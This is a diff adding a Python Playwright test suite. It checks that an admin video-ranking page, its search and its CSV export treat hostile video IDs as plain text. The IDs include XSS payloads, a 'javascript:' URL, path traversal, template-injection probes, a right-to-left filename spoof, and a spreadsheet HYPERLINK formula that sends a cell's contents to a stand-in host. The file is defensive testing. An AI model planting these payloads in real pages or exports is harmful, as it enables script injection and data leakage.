@@ -1,0 +1,147 @@
+"""Ids that are more than text elsewhere are text here: nothing runs, moves or hides."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+from datetime import date
+from pathlib import Path
+from typing import TYPE_CHECKING
+from urllib.parse import urlencode
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.admin.counts import Counts
+from tests.browser.admin.database import Database
+from tests.browser.admin.visit import Visit, eventually, path_of
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from tests.browser.admin.stack import AdminStack
+    from tests.browser.admin.web import Web
+
+pytestmark = pytest.mark.parametrize("stack", ["sqlite"], indirect=True)
+
+IDS = {
+    "an image": "<img src=x onerror=alert(1)>",
+    "a script": "</a><script>alert(1)</script>",
+    "a formula": '=HYPERLINK("http://stranger.example/?"&A1,"click")',
+    "right to left": "a\u202egpj.exe\u2066b",
+    "nothing to see": "zero\u200bwidth\ufeff\u00ad",
+    "an emoji of many": "👩‍👩‍👧‍👦 🏳️‍🌈",
+    "no break": "W" * 128,
+    "slashes": "/a//b/",
+    "percent signs": "100%25%zz%",
+    "a query": "what?range=all&q=1",
+    "a fragment": "#content",
+    "spaces": "  spaced  out ",
+    "steps": "../../session",
+    "quotes": "\"'`{{7*7}}${7*7}",
+    "backslashes": "\\a\\..\\b",
+    "another script": "مرحبا",
+    "an address": "https://stranger.example/",
+    "a script's address": "javascript:alert(1)",
+}
+STEPS = (".", "..")
+"""No address can hold these: a browser takes them for steps on the way to one."""
+SEEN = date(2026, 1, 1)
+NARROW_PIXELS = 320
+
+# Characters that move others about or show as nothing, and spaces at the ends.
+_HIDDEN = re.compile("[\u00ad\u200b\u202e\u2066\ufeff]|^ +| +$")
+_FORMULA = re.compile(r"\s*[=+\-@]")
+
+
+@pytest.fixture(scope="module")
+def web(sqlite_stack: AdminStack, sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
+    """A web process over a database that has no other videos than these, each watched once more than the one before."""
+    folder = tmp_path_factory.mktemp("strange")
+    shutil.copy(sqlite_template, folder / "pulse.db")
+    url = f"sqlite:///{folder / 'pulse.db'}"
+    Database(url, folder).write(_history())
+    with sqlite_stack.another_web(PULSE_DATABASE_URL=url) as web:
+        yield web
+
+
+@pytest.fixture
+def narrow(guest: Visit, web: Web) -> Visit:
+    """Someone with a small telephone who sees all of them, of all time."""
+    guest.page.set_viewport_size({"width": NARROW_PIXELS, "height": 640})
+    return guest.at(web.url).enter().open("/admin?range=all")
+
+
+def test_the_ranking_shows_them_as_text(narrow: Visit) -> None:
+    expected = [(_shown(video_id), f"{count:,}") for video_id, count in _history().ranking()]
+    eventually(lambda: [(row.video, row.views) for row in narrow.ranking()], expected)
+    assert narrow.overflow() == 0
+    assert narrow.page.locator("main :is(img, script, iframe)").count() == 0
+
+
+def test_the_link_of_each_leads_to_its_own_page_which_can_be_loaded_again(narrow: Visit) -> None:
+    found = {}
+    for name, video_id in IDS.items():
+        narrow.video_link(video_id).click()
+        clicked = _page_of_a_video(narrow)
+        narrow.page.reload()
+        found[name] = (clicked, _page_of_a_video(narrow))
+        narrow.page.go_back()
+        narrow.table.wait_for()
+    assert found == {name: (_expected_page(video_id),) * 2 for name, video_id in IDS.items()}
+
+
+def test_steps_are_shown_without_a_link(narrow: Visit) -> None:
+    for video_id in STEPS:
+        cell = narrow.table.get_by_role("rowheader", name=video_id, exact=True)
+        expect(cell).to_be_visible()
+        expect(cell.get_by_role("link")).to_have_count(0)
+
+
+def test_they_can_be_searched_for(narrow: Visit) -> None:
+    for name in ("an image", "a formula", "right to left", "percent signs", "spaces", "quotes"):
+        video_id = IDS[name]
+        narrow.search(video_id)
+        eventually(lambda: [row.video for row in narrow.ranking()], [_shown(video_id)])
+        assert narrow.address == f"/admin?{urlencode({'range': 'all', 'q': video_id}, safe='*')}"
+
+
+def test_a_search_that_finds_nothing_is_told_as_text(narrow: Visit) -> None:
+    narrow.search("<b onclick=alert(1)>no")
+    expect(narrow.page.get_by_text("No video begins with “<b onclick=alert(1)>no”")).to_be_visible()
+    assert narrow.overflow() == 0
+
+
+def test_the_csv_holds_them_as_text(narrow: Visit) -> None:
+    with narrow.page.expect_download() as download:
+        narrow.link("Download CSV").click()
+    text = Path(download.value.path()).read_bytes().decode()
+    _, *rows = csv.reader(io.StringIO(text, newline=""))
+    harmless = {_no_formula(video_id): count for video_id, count in _history().by_video().items()}
+    assert {video_id: int(count) for video_id, count in rows} == harmless
+
+
+def _page_of_a_video(visit: Visit) -> tuple[str, str | None, str | None, int]:
+    """The address, the heading, the views of all time, and how many pixels are too many."""
+    eventually(lambda: bool(visit.figures()), expected=True)
+    heading = visit.page.get_by_role("heading", level=1).text_content()
+    return visit.address, heading, visit.figures().get("Views of all time"), visit.overflow()
+
+
+def _expected_page(video_id: str) -> tuple[str, str, str, int]:
+    return f"{path_of(video_id)}?range=all", _shown(video_id), f"{_history().by_video()[video_id]:,}", 0
+
+
+def _history() -> Counts:
+    return Counts({(video_id, SEEN): number for number, video_id in enumerate([*IDS.values(), *STEPS], start=1)})
+
+
+def _shown(video_id: str) -> str:
+    """The text of an id: what hides in it is named."""
+    return _HIDDEN.sub(lambda found: " ".join(f"U+{ord(each):04X}" for each in found[0]), video_id)
+
+
+def _no_formula(video_id: str) -> str:
+    return f"'{video_id}" if _FORMULA.match(video_id) else video_id
